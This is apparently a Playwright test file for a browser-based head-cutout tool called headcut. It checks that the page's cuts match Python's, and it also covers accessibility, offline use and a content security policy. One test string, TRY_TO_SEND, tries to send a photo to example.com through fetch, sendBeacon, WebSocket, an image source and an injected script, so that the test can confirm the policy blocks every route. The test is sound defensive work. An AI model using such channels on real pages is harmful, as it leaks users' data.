"""The page in a real browser, with the real networks: what it saves is what Python cuts.

Needs the built page (`make page`, which needs Node.js) and Chromium; without them, all is skipped.
"""

from __future__ import annotations

import functools
import http.server
import io
import os
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import ASTRONAUT, ROOT
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, sync_playwright

import headcut
from headcut.cutout import merge
from headcut.pipeline import shared_cutter
from headcut.web.page import NOT_BUILT, built_page, export_static
from headcut_train.manifest import HEAD_LEVEL, read_mask
from headcut_train.prepare import prepare

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
AXE = ROOT / "web" / "node_modules" / "axe-core" / "axe.min.js"
FLAGS = ["--no-sandbox", "--disable-background-networking", "--disable-component-update"]
SOFTWARE_GPU = ["--enable-unsafe-webgpu", "--use-webgpu-adapter=swiftshader"]
PATIENCE_MS = 180_000
"""For a cut on a busy machine; it takes about a second on an idle one."""

pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is missing; apt-get install chromium"),
    pytest.mark.skipif(built_page() is None, reason=NOT_BUILT),
]


@pytest.fixture(scope="module")
def driver() -> Iterator[Playwright]:
    with sync_playwright() as driver:
        yield driver


@pytest.fixture(scope="module")
def browser(driver: Playwright) -> Iterator[Browser]:
    browser = driver.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
    yield browser
    browser.close()


@pytest.fixture(scope="module")
def gpu_browser(driver: Playwright, address: str) -> Iterator[Browser]:
    """A browser with the real WebGPU, on an adapter in software: right, and very slow."""
    browser = driver.chromium.launch(executable_path=CHROMIUM, args=[*FLAGS, *SOFTWARE_GPU])
    page = browser.new_page()
    page.goto(address)
    adapter = page.evaluate("navigator.gpu?.requestAdapter().then((a) => a && a.info.vendor)")
    page.close()
    if not adapter:
        browser.close()
        pytest.skip("this Chromium gives no WebGPU adapter, not even SwiftShader's")
    yield browser
    browser.close()


@pytest.fixture(scope="module")
def address() -> Iterator[str]:
    """The address of a real `headcut serve`."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    command = [sys.executable, "-m", "headcut", "serve", "--port", str(port)]
    environment = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    with subprocess.Popen(command, env=environment, stderr=subprocess.DEVNULL) as server:
        address = f"http://127.0.0.1:{port}/"
        wait_for(address + "v1/health")
        yield address
        server.send_signal(signal.SIGINT)
        assert server.wait(60) == 0


def wait_for(address: str) -> None:
    for _ in range(600):
        try:
            with urllib.request.urlopen(address):
                return
        except OSError:
            time.sleep(0.1)
    raise AssertionError(f"nothing answers at {address}")


@contextmanager
def opened(browser: Browser, address: str, **more: Any) -> Iterator[Page]:
    context: BrowserContext = browser.new_context(accept_downloads=True, **more)
    context.set_default_timeout(PATIENCE_MS)
    page = context.new_page()
    problems: list[str] = []
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda m: problems.append(m.text) if m.type == "error" else None)
    try:
        page.goto(address)
        yield page
        assert not problems
    finally:
        context.close()


@pytest.fixture(scope="module")
def page(browser: Browser, address: str) -> Iterator[Page]:
    """One page for all tests that only choose photos and options in it."""
    with opened(browser, address) as page:
        yield page


def pick(page: Page, photo: Path) -> None:
    """Choose a photo and wait until its heads are cut."""
    page.evaluate("delete document.documentElement.dataset.ms")
    page.set_input_files("#file", photo)
    page.wait_for_selector("html[data-ms]")  # no function: the policy forbids eval
    settle(page)


def settle(page: Page) -> None:
    """Wait until the worker has done all that it was asked."""
    page.wait_for_selector("#stage[data-settled=true]")


def saved(page: Page, button: str = "#save") -> Image.Image:
    with page.expect_download() as download:
        page.click(button)
    return image_in(download.value.path())


def image_in(path: Path) -> Image.Image:
    """The picture in a file that is closed again."""
    return Image.open(io.BytesIO(path.read_bytes()))


def look(page: Page, tab: str) -> None:
    page.click(f"#tab-{tab}")
    settle(page)


def choose(page: Page, fieldset: str, title: str) -> None:
    page.click(f"#{fieldset} [title='{title}']")
    settle(page)


def slide(page: Page, slider: str, value: str) -> None:
    page.fill(f"#{slider}", value)
    settle(page)


def alpha_of(image: Image.Image) -> np.ndarray:
    return np.asarray(image.getchannel("A")).astype(float) / 255


def assert_same_cut(image: Image.Image, expected: Image.Image) -> None:
    """Alpha within 2/255 away from the edge, and an IoU of at least 0.995."""
    assert image.size == expected.size
    a, b = alpha_of(image), alpha_of(expected)
    overlap = ((a > 0.5) & (b > 0.5)).sum() / ((a > 0.5) | (b > 0.5)).sum()
    assert overlap >= 0.995, overlap
    away = (b == 0) | (b == 1)
    for axis in (0, 1):  # away from the edge is where the neighbours are alike too
        for step in (-3, -2, -1, 1, 2, 3):
            away &= np.roll(b, step, axis) == b
    assert np.abs(a - b)[away].max() <= 2 / 255


def from_python(photo: Path, **options: Any) -> Image.Image:
    """What Python cuts, all heads in one."""
    cutter = shared_cutter()
    return merge(cutter.cut(photo)).render(headcut.SaveOptions(**options))


@pytest.fixture(scope="module")
def two_heads(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample photo beside its mirror image."""
    with Image.open(ASTRONAUT) as image:
        both = Image.new("RGB", (2 * image.width, image.height))
        both.paste(image, (0, 0))
        both.paste(image.transpose(Image.Transpose.FLIP_LEFT_RIGHT), (image.width, 0))
    path = tmp_path_factory.mktemp("photos") / "two.png"
    both.save(path)
    return path


# ---------------------------------------------------------------- the same as Python


def test_a_saved_cut_is_pythons(page: Page) -> None:
    """The pipeline in the page is Python's: the networks, and all around them."""
    pick(page, ASTRONAUT)
    assert page.inner_text("#message") == "1 head found"
    assert_same_cut(saved(page), from_python(ASTRONAUT, crop=True))


def test_a_photo_keeps_its_own_size(page: Page, tmp_path: Path) -> None:
    """Large photos are looked at smaller; the final cut is made of all their pixels."""
    large = tmp_path / "large.jpg"
    with Image.open(ASTRONAUT) as image:
        image.resize((2560, 2560), Image.Resampling.BICUBIC).save(large, quality=95)
    pick(page, large)
    choose(page, "frame", "Photo")
    image, expected = saved(page), from_python(large)
    choose(page, "frame", "Head")
    assert image.size == (2560, 2560)
    a, b = alpha_of(image) > 0.5, alpha_of(expected) > 0.5
    assert (a & b).sum() / (a | b).sum() >= 0.995


def test_a_turned_photo_is_cut_upright_and_its_metadata_is_left_out(
    page: Page, tmp_path: Path
) -> None:
    """Cameras write how they were held, and where; the first is obeyed, the second dropped."""
    turned = tmp_path / "turned.jpg"
    with Image.open(ASTRONAUT) as image:
        exif = Image.Exif()
        exif[0x0112], exif[0x010F] = 6, "A camera's maker"
        image.transpose(Image.Transpose.ROTATE_90).save(turned, exif=exif, quality=95)
    pick(page, turned)
    with page.expect_download() as download:
        page.click("#save")
    data = download.value.path().read_bytes()
    assert download.value.suggested_filename == "turned-head.png"
    expected = from_python(turned, crop=True)
    assert_same_cut(Image.open(io.BytesIO(data)), expected)
    assert chunks(data) <= {b"IHDR", b"sRGB", b"IDAT", b"IEND"}


def chunks(png: bytes) -> set[bytes]:
    names, at = set(), 8
    while at < len(png):
        (length,) = struct.unpack(">I", png[at : at + 4])
        names.add(png[at + 4 : at + 8])
        at += length + 12
    return names


@pytest.mark.parametrize(("share", "neck"), [("50", "short"), ("100", "keep")])
def test_necks_are_pythons(page: Page, share: str, neck: Any) -> None:
    pick(page, ASTRONAUT)
    cutter = headcut.HeadCutter(neck=neck)
    expected = cutter.cut(ASTRONAUT)[0].render(headcut.SaveOptions(crop=True))
    slide(page, "neck", share)
    image = saved(page)
    slide(page, "neck", "0")
    assert_same_cut(image, expected)


def test_a_neck_grows_with_each_key_and_its_slider_says_how_much(page: Page) -> None:
    """Whoever does not see it hears a name or a share, no bare number."""
    pick(page, ASTRONAUT)
    page.focus("#neck")
    heights, words = [], []
    for key in ("Home", "ArrowRight", "PageUp", "End"):
        page.keyboard.press(key)
        settle(page)
        heights.append(saved(page).height)
        words.append(page.get_attribute("#neck", "aria-valuetext"))
        page.focus("#neck")
    slide(page, "neck", "0")
    none, *grown = heights
    assert grown == sorted(set(grown))
    assert none - 4 < grown[0]  # with a neck the frame is another, and the mask by a few pixels
    assert none < grown[-1]
    assert words == ["None", "1%", "11%", "Whole"]


def test_a_dragged_slider_waits_for_nothing_old(page: Page) -> None:
    """Only the newest of many changes is worked on, however fast they come."""
    pick(page, ASTRONAUT)
    asked = page.evaluate(
        """async () => {
            const slider = document.getElementById("neck");
            let asked = 0;
            const post = Worker.prototype.postMessage;
            Worker.prototype.postMessage = function (...given) {
                asked++;
                post.apply(this, given);
            };
            for (let share = 0; share <= 100; share++) {
                slider.value = String(share);
                slider.dispatchEvent(new Event("input"));
            }
            const stage = document.getElementById("stage");
            while (stage.dataset.settled !== "true") {
                await new Promise((resolve) => setTimeout(resolve, 20));
            }
            Worker.prototype.postMessage = post;
            return asked;
        }"""
    )
    whole = saved(page)
    slide(page, "neck", "0")
    assert asked == 2
    assert whole.height > saved(page).height


def test_one_thread_cuts_the_same(browser: Browser, address: str) -> None:
    """Of several where the page may, and of one on iPhones and on hosts without the headers."""
    with opened(browser, address) as page:
        page.wait_for_selector("html[data-threads]")
        cores = page.evaluate("navigator.hardwareConcurrency")
        assert page.get_attribute("html", "data-threads") == str(min(4, cores))
    with opened(browser, f"{address}?threads=1") as page:
        pick(page, ASTRONAUT)
        assert page.get_attribute("html", "data-threads") == "1"
        assert_same_cut(saved(page), from_python(ASTRONAUT, crop=True))


@pytest.mark.parametrize("switch", ["", "?backend=wasm"])
def test_a_gpu_in_software_is_taken_only_if_asked_for(
    gpu_browser: Browser, address: str, switch: str
) -> None:
    """Nothing is loaded for it either."""
    with opened(gpu_browser, address + switch) as page:
        requests: list[str] = []
        page.context.on("request", lambda request: requests.append(request.url))
        pick(page, ASTRONAUT)
        page.wait_for_selector("html[data-backend=wasm]")
        assert not [url for url in requests if "jspi" in url]


@dataclass
class OnGpu:
    """A page that asked for the GPU and has opened a photo, and what happened meanwhile."""

    page: Page
    early: list[str]
    """What was requested before there was a photo."""
    requests: list[str]
    said: list[str]


@pytest.fixture(scope="module")
def on_gpu(gpu_browser: Browser, address: str) -> Iterator[OnGpu]:
    context = gpu_browser.new_context(accept_downloads=True)
    context.set_default_timeout(PATIENCE_MS)
    page = context.new_page()
    page.goto(f"{address}?backend=webgpu")
    page.evaluate("navigator.serviceWorker.ready.then(() => true)")
    requests: list[str] = []
    said: list[str] = []
    context.on("request", lambda request: requests.append(request.url))
    page.on("console", lambda message: said.append(f"{message.type}: {message.text}"))
    page.reload()  # now it comes from the service worker
    page.wait_for_selector("html[data-threads]")
    early = list(requests)
    pick(page, ASTRONAUT)
    page.wait_for_selector("html[data-backend]")
    yield OnGpu(page, early, requests, said)
    context.close()


def test_a_gpu_cuts_the_same(on_gpu: OnGpu, address: str) -> None:
    """What it needs comes from the page's own origin, after the first photo, and is then kept."""
    page = on_gpu.page
    assert page.get_attribute("html", "data-backend") == "webgpu", on_gpu.said
    assert on_gpu.early
    assert not [url for url in on_gpu.early if "jspi" in url]
    assert all(url.startswith((address, f"blob:{address}")) for url in on_gpu.requests)
    slide(page, "neck", "100")  # takes another look, now on the GPU
    assert not [text for text in on_gpu.said if "goes on" in text or text.startswith("error")]
    expected = headcut.HeadCutter(neck="keep").cut(ASTRONAUT)[0]
    assert_same_cut(saved(page), expected.render(headcut.SaveOptions(crop=True)))
    [wasm] = {url for url in on_gpu.requests if url.endswith(".wasm") and "jspi" in url}
    page.context.set_offline(True)
    kept = page.evaluate("(url) => fetch(url).then((r) => r.blob()).then((b) => b.size)", wasm)
    page.context.set_offline(False)
    assert kept > 10_000_000


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="no SIGKILL on this system")
def test_a_gpu_that_goes_away_leaves_the_work_to_webassembly(
    gpu_browser: Browser, on_gpu: OnGpu
) -> None:
    """As when a laptop wakes up; here its process is ended while it looks for heads."""
    page = on_gpu.page
    processes = gpu_browser.new_browser_cdp_session().send("SystemInfo.getProcessInfo")
    [gpu] = [p["id"] for p in processes["processInfo"] if p["type"] == "GPU"]
    slide(page, "neck", "0")
    page.evaluate("delete document.documentElement.dataset.ms")
    page.set_input_files("#file", ASTRONAUT)
    page.wait_for_timeout(1000)
    os.kill(gpu, signal.SIGKILL)
    page.wait_for_selector("html[data-ms]")
    settle(page)
    assert [text for text in on_gpu.said if "WebAssembly goes on" in text]
    assert_same_cut(saved(page), from_python(ASTRONAUT, crop=True))


@pytest.mark.skipif(not Path("/proc/self/clear_refs").exists(), reason="memory is read from /proc")
def test_a_photo_of_12_megapixels_needs_little_memory(
    browser: Browser, page: Page, tmp_path: Path
) -> None:
    """Phones end a page that takes much; the full photo is there only to be decoded and saved."""
    large = tmp_path / "large.jpg"
    with Image.open(ASTRONAUT) as image:
        image.resize((3464, 3464)).save(large)
    processes = browser.new_browser_cdp_session().send("SystemInfo.getProcessInfo")["processInfo"]
    folders = [Path(f"/proc/{p['id']}") for p in processes if p["type"] == "renderer"]
    before = {folder: memory_mb(folder, "VmRSS") for folder in folders}
    for folder in folders:
        (folder / "clear_refs").write_text("5")  # the peak starts anew
    pick(page, large)
    assert saved(page).width > 1000
    grown = [memory_mb(folder, "VmHWM") - before[folder] for folder in folders]
    assert 50 < max(grown) < 350, grown


def test_no_canvas_is_larger_than_phones_give(page: Page, tmp_path: Path) -> None:
    """A head that fills a photo of 25 megapixels is saved at as many as there are."""
    large = tmp_path / "large.jpg"
    with Image.open(ASTRONAUT) as image:
        image.crop((120, 0, 320, 200)).resize((5000, 5000)).save(large)
    pick(page, large)
    (worker,) = (worker for worker in page.workers if "/worker-" in worker.url)
    worker.evaluate(
        """() => {
          self.largest = 0;
          const Real = self.Real = OffscreenCanvas;
          self.OffscreenCanvas = class extends Real {
            constructor(width, height) {
              super(width, height);
              self.largest = Math.max(self.largest, width * height);
            }
          };
        }"""
    )
    image = saved(page)
    largest = worker.evaluate("self.largest")
    worker.evaluate("() => { self.OffscreenCanvas = self.Real; }")
    assert 8e6 < largest < 16.1e6
    assert image.width * image.height > 5e6


def memory_mb(process: Path, row: str) -> float:
    return int((process / "status").read_text().split(f"{row}:")[1].split()[0]) * 1024 / 1e6


# ---------------------------------------------------------------- what people do


@pytest.mark.parametrize("way", ["drop", "paste"])
def test_a_photo_can_be_dropped_or_pasted(page: Page, way: str) -> None:
    pick(page, ASTRONAUT)
    page.evaluate("delete document.documentElement.dataset.ms")
    page.evaluate(
        """async ([way, bytes]) => {
            const given = new DataTransfer();
            given.items.add(new File([new Uint8Array(bytes)], "given.jpg", { type: "image/jpeg" }));
            const event = way === "drop"
                ? new DragEvent("drop", { dataTransfer: given })
                : new ClipboardEvent("paste", { clipboardData: given });
            document.dispatchEvent(event);
        }""",
        [way, list(ASTRONAUT.read_bytes())],
    )
    page.wait_for_selector("html[data-ms]")
    settle(page)
    with page.expect_download() as download:
        page.click("#save")
    assert download.value.suggested_filename == "given-head.png"


def test_a_photo_can_be_taken_on_a_phone(browser: Browser, address: str) -> None:
    with opened(browser, address, has_touch=True, is_mobile=True) as page:
        with page.expect_file_chooser() as chooser:
            page.click("#take")
        assert chooser.value.element.get_attribute("capture") == "environment"


def test_progress_is_shown_while_the_networks_load(browser: Browser, address: str) -> None:
    """All that is loaded counts; the page answers meanwhile."""
    context = browser.new_context()
    page = context.new_page()
    held: list[Any] = []
    page.route("**/*.wasm", lambda route: held.append(route))
    page.goto(address)
    page.wait_for_timeout(1000)
    page.click("#sample")
    page.wait_for_selector("#progress[value]")
    assert page.inner_text("#busy-word") == "Getting ready"
    assert float(page.get_attribute("#progress", "value") or 1) == 3 / 4, "the networks"
    held[0].continue_()
    page.wait_for_selector("#stage[data-settled=true]")
    assert page.is_hidden("#busy")
    context.close()


def test_one_head_is_chosen_by_touching_it(page: Page, two_heads: Path) -> None:
    pick(page, two_heads)
    assert page.inner_text("#message") == "2 heads found"
    both = saved(page)
    look(page, "heads")
    stage = page.locator("#stage").bounding_box()
    assert stage
    assert page.locator("#heads button").count() == 3  # each, and all
    # The photo is twice as wide as high and fills the stage's width or its height.
    scale = min(stage["width"] / 1024, stage["height"] / 512)
    x = stage["x"] + stage["width"] / 2 + (224 - 512) * scale
    y = stage["y"] + stage["height"] / 2 + (100 - 256) * scale
    page.mouse.click(x, y)
    settle(page)
    pressed = [b.get_attribute("aria-pressed") for b in page.locator("#heads button").all()]
    assert pressed == ["false", "true", "false"]
    look(page, "look")
    right = saved(page)
    assert right.width < both.width / 2
    cut_outs = shared_cutter().cut(two_heads)
    assert_same_cut(right, cut_outs[1].render(headcut.SaveOptions(crop=True)))


def test_nothing_can_be_chosen_while_the_next_photo_opens(page: Page, two_heads: Path) -> None:
    """It would be of the heads of the photo before, and saved under the new one's name."""
    pick(page, two_heads)
    page.evaluate("delete document.documentElement.dataset.ms")
    page.set_input_files("#file", ASTRONAUT)
    assert page.locator("#editor").evaluate("editor => editor.inert")
    page.wait_for_selector("html[data-ms]")
    settle(page)
    assert not page.locator("#editor").evaluate("editor => editor.inert")
    assert page.inner_text("#message") == "1 head found"
    assert_same_cut(saved(page), from_python(ASTRONAUT, crop=True))


def test_shapes_backgrounds_and_outline(page: Page) -> None:
    pick(page, ASTRONAUT)
    choose(page, "frame", "Circle")
    choose(page, "background", "Yellow")
    image = saved(page)
    assert image.width == image.height
    assert image.getpixel((0, 0)) == (0, 0, 0, 0)
    assert image.getpixel((image.width // 2, 2)) == (255, 213, 74, 255)
    choose(page, "frame", "Square")
    choose(page, "background", "Blurred photo")
    square = saved(page)
    assert square.width == square.height
    assert square.getchannel("A").getextrema() == (255, 255)
    choose(page, "frame", "Head")
    choose(page, "background", "Transparent")
    plain = saved(page)
    slide(page, "outline", "4")
    outlined = saved(page)
    slide(page, "outline", "0")
    line = round(0.04 * max(plain.size))
    assert outlined.width == pytest.approx(plain.width + 2 * line, abs=2)
    assert alpha_of(outlined).sum() > alpha_of(plain).sum() * 1.05


def test_own_picture_is_a_background(page: Page, tmp_path: Path) -> None:
    pick(page, ASTRONAUT)
    green = tmp_path / "green.png"
    Image.new("RGB", (50, 80), (0, 200, 0)).save(green)
    with page.expect_file_chooser() as chooser:
        page.click("#background [title='Own picture']")
    chooser.value.set_files(green)
    page.wait_for_timeout(50)
    settle(page)
    image = saved(page)
    choose(page, "background", "Transparent")
    assert image.getpixel((0, 0)) == (0, 200, 0, 255)


def test_choosing_no_picture_after_all_keeps_the_background(page: Page) -> None:
    pick(page, ASTRONAUT)
    for _ in range(2):  # it can be thought over again
        with page.expect_file_chooser():
            page.click("#background [title='Own picture']")
        page.locator("#picture").dispatch_event("cancel")
        assert page.locator("#background :checked").get_attribute("value") == "transparent"


def test_brush_adds_erases_and_takes_back_and_makes_a_training_pair(
    page: Page, tmp_path: Path
) -> None:
    """What people correct is worth training with: a photo, and its mask of the same size."""
    pick(page, ASTRONAUT)
    before = saved(page)
    look(page, "brush")
    stage = page.locator("#stage").bounding_box()
    assert stage
    scale = min(stage["width"], stage["height"]) / 512

    def at(x: float, y: float) -> tuple[float, float]:
        left = stage["x"] + stage["width"] / 2 - 256 * scale
        return left + x * scale, stage["y"] + stage["height"] / 2 - 256 * scale + y * scale

    def stroke(*points: tuple[float, float]) -> None:
        page.mouse.move(*at(*points[0]))
        page.mouse.down()
        for point in points[1:]:
            page.mouse.move(*at(*point))
        page.mouse.up()
        settle(page)

    stroke((60, 400), (90, 430))
    choose(page, "brush", "Erase")
    stroke((200, 100), (240, 100))
    choose(page, "brush", "Add")
    files = {}

    def keep(download: Any) -> None:
        files[download.suggested_filename] = download.path()

    page.on("download", keep)
    page.click("#pair")
    for _ in range(600):
        if len(files) == 2:
            break
        page.wait_for_timeout(100)
    page.remove_listener("download", keep)
    assert set(files) == {"astronaut.png", "astronaut_mask.png"}
    photo, mask = (image_in(files[name]) for name in sorted(files))
    assert photo.size == mask.size == (512, 512)
    levels = np.asarray(mask.convert("L"))
    assert set(np.unique(levels)) == {0, 255}
    assert levels[415, 75] == 255
    assert levels[100, 220] == 0
    folder = tmp_path / "pairs"
    folder.mkdir()
    for name, path in files.items():
        shutil.copy(path, folder / name)
    manifest, left_out = prepare(folder, "folder", tmp_path / "prepared", workers=1)
    assert left_out == []
    read = read_mask(manifest.file(manifest.pairs[0].mask))
    assert np.array_equal(read == HEAD_LEVEL, levels == 255)
    page.click("#undo")
    settle(page)
    page.keyboard.press("Control+z")
    settle(page)
    look(page, "look")
    assert np.array_equal(np.asarray(saved(page)), np.asarray(before))


def test_comparing_shows_the_photo_while_it_is_held(page: Page) -> None:
    pick(page, ASTRONAUT)
    page.hover("#compare")
    page.mouse.down()
    assert page.get_attribute("#stage", "data-view") == "photo"
    page.mouse.up()
    assert page.get_attribute("#stage", "data-view") == "result"


def test_a_result_can_be_copied(browser: Browser, address: str) -> None:
    permissions = ["clipboard-read", "clipboard-write"]
    with opened(browser, address, permissions=permissions) as page:
        pick(page, ASTRONAUT)
        page.click("#copy")
        page.wait_for_selector("#message:text-is('Copied')")
        types = page.evaluate("navigator.clipboard.read().then((items) => items[0].types)")
        assert types == ["image/png"]


def test_a_result_can_be_shared(browser: Browser, address: str) -> None:
    """Chromium on Linux has no sharing, so its part is played here."""
    with opened(browser, address) as page:
        assert page.is_hidden("#share")
        page.add_init_script(
            """navigator.canShare = () => true;
            navigator.share = async ({ files }) => {
                document.documentElement.dataset.shared = `${files[0].name} ${files[0].type}`;
            };"""
        )
        page.reload()
        pick(page, ASTRONAUT)
        page.click("#share")
        page.wait_for_selector("html[data-shared='astronaut-head.png image/png']")


def test_what_cannot_be_read_is_said(page: Page, tmp_path: Path) -> None:
    for name, word in (("photo.heic", "Safari"), ("letter.jpg", "cannot read that file")):
        (tmp_path / name).write_bytes(b"no photo at all")
        page.set_input_files("#file", tmp_path / name)
        page.wait_for_selector(f"#message:has-text('{word}')")


def test_a_photo_without_heads_can_still_be_painted_on(page: Page, tmp_path: Path) -> None:
    grey = tmp_path / "grey.png"
    Image.new("RGB", (300, 200), (128, 128, 128)).save(grey)
    pick(page, grey)
    assert "No head found" in page.inner_text("#message")
    assert page.is_disabled("#save")
    assert page.get_attribute("#tab-brush", "aria-selected") == "true"


# ---------------------------------------------------------------- what it never does


def test_nothing_is_sent_and_it_works_offline(browser: Browser, address: str) -> None:
    """Every request is a GET to the page's own origin; after the first visit, none is needed."""
    with opened(browser, address) as page:
        requests: list[tuple[str, str]] = []
        page.context.on("request", lambda r: requests.append((r.method, r.url)))
        page.reload()
        page.evaluate("navigator.serviceWorker.ready.then(() => true)")
        pick(page, ASTRONAUT)
        first = saved(page)
        assert requests
        assert {method for method, _ in requests} == {"GET"}
        assert all(url.startswith((address, f"blob:{address}")) for _, url in requests), requests
        assert not [url for _, url in requests if "jspi" in url]  # without a GPU, nothing for it
        page.context.set_offline(True)
        page.reload()
        assert page.evaluate("navigator.onLine") is False
        pick(page, ASTRONAUT)
        assert np.array_equal(np.asarray(saved(page)), np.asarray(first))


TRY_TO_SEND = """async () => {
    const refused = [];
    document.addEventListener("securitypolicyviolation", (v) => refused.push(v.effectiveDirective));
    const script = Object.assign(document.createElement("script"), { textContent: "leaked = 1" });
    const tries = {
        fetch: () => fetch("https://example.com/", { method: "POST", body: "photo" }),
        beacon: () => navigator.sendBeacon("https://example.com/", "photo"),
        socket: () => new WebSocket("wss://example.com/"),
        image: () => { new Image().src = "https://example.com/photo.png"; },
        script: () => document.head.append(script),
    };
    for (const send of Object.values(tries)) try { await send(); } catch {}
    await new Promise((resolve) => setTimeout(resolve, 300));
    return [...new Set(refused)].concat(typeof leaked);
}"""
"""Each way out of a page; returns what the policy refused."""


def test_policy_refuses_every_way_out(browser: Browser, address: str) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(address)
    requests: list[str] = []
    page.on("requestfinished", lambda request: requests.append(request.url))
    refused = page.evaluate(TRY_TO_SEND)
    context.close()
    assert sorted(refused) == ["connect-src", "img-src", "script-src-elem", "undefined"]
    assert not [url for url in requests if "example.com" in url]


def test_policy_forbids_other_origins_and_inline_scripts(page: Page, address: str) -> None:
    """Even code that got into the page could send a photo nowhere."""
    with urllib.request.urlopen(address) as answer:
        policy = answer.headers["content-security-policy"]
        assert answer.headers["cross-origin-opener-policy"] == "same-origin"
        assert answer.headers["cross-origin-embedder-policy"] == "require-corp"
    assert "default-src 'none'" in policy
    assert "connect-src 'self'" in policy
    assert "unsafe-inline" not in policy
    assert page.evaluate("crossOriginIsolated") is True
    assert page.locator("meta[http-equiv='Content-Security-Policy']").count() == 1


def test_a_static_folder_works_on_any_host(browser: Browser, tmp_path: Path) -> None:
    """Hosts that cannot be told to send headers get them from the service worker."""
    folder = tmp_path / "site" / "headcut"
    folder.parent.mkdir()
    export_static(folder)
    handler = functools.partial(QuietHandler, directory=str(folder.parent))
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as host:
        threading.Thread(target=host.serve_forever).start()
        try:
            address = f"http://127.0.0.1:{host.server_address[1]}/headcut/"
            with opened(browser, address) as page:
                pick(page, ASTRONAUT)
                assert page.get_attribute("html", "data-threads") == "1"
                page.evaluate("navigator.serviceWorker.ready.then(() => true)")
                page.reload()
                assert page.evaluate("crossOriginIsolated") is True
                page.click("#sample")
                settle(page)
                assert page.inner_text("#message") == "1 head found"
        finally:
            host.shutdown()


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *_: object) -> None:
        """Say nothing."""


# ---------------------------------------------------------------- for everybody


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(browser: Browser, address: str, scheme: Any) -> None:
    """Labels, roles, focus and contrast, on every view of the page."""
    script = AXE.read_text()
    with opened(browser, address, color_scheme=scheme) as page:

        def assert_well(view: str) -> None:
            # Through the debugger, for the page's policy lets no script in.
            page.evaluate(script)
            found = page.evaluate("axe.run().then((results) => results.violations)")
            bad = [(v["id"], v["nodes"][0]["html"]) for v in found]
            assert not bad, f"{view}: {bad}"

        assert_well("start")
        pick(page, ASTRONAUT)
        for tab in ("look", "heads", "brush"):
            look(page, tab)
            assert_well(tab)


@pytest.mark.parametrize(("width", "height"), [(375, 667), (667, 375)])
def test_every_control_can_be_touched_on_a_small_phone(
    browser: Browser, address: str, width: int, height: int
) -> None:
    """Playwright refuses to click on what something else covers."""
    with opened(browser, address, viewport={"width": width, "height": height}) as page:
        page.set_default_timeout(PATIENCE_MS)
        pick(page, ASTRONAUT)
        for fieldset, title in (("frame", "Photo"), ("background", "Blurred photo")):
            choose(page, fieldset, title)
        for control in (
            "#neck",
            "#outline",
            "#room",
            "#compare",
            "#tab-brush",
            "#brush-size",
            "#tab-heads",
        ):
            page.click(control)
        settle(page)
        page.click("#heads button")
        stage = page.locator("#stage").bounding_box()
        assert stage
        assert min(stage["width"], stage["height"]) > 220


def test_keyboard_is_enough(page: Page) -> None:
    pick(page, ASTRONAUT)
    page.focus("#tab-look")
    page.keyboard.press("ArrowRight")
    settle(page)
    assert page.evaluate("document.activeElement.id") == "tab-heads"
    page.keyboard.press("Tab")
    page.keyboard.press("Space")
    settle(page)
    assert page.is_disabled("#save")
    page.keyboard.press("Space")
    settle(page)
    page.focus("#save")
    with page.expect_download():
        page.keyboard.press("Enter")
    look(page, "look")


def test_it_can_be_installed(browser: Browser, address: str) -> None:
    with opened(browser, address) as page:
        page.evaluate("navigator.serviceWorker.ready.then(() => true)")
        browser_says = page.context.new_cdp_session(page)
        assert browser_says.send("Page.getAppManifest")["errors"] == []
        errors = browser_says.send("Page.getInstallabilityErrors")["installabilityErrors"]
        assert {error["errorId"] for error in errors} <= {"in-incognito"}  # as test browsers are


def test_export_goes_into_a_new_folder_only(tmp_path: Path) -> None:
    (tmp_path / "kept.txt").write_text("mine")
    with pytest.raises(headcut.OutputError, match="not empty"):
        export_static(tmp_path)
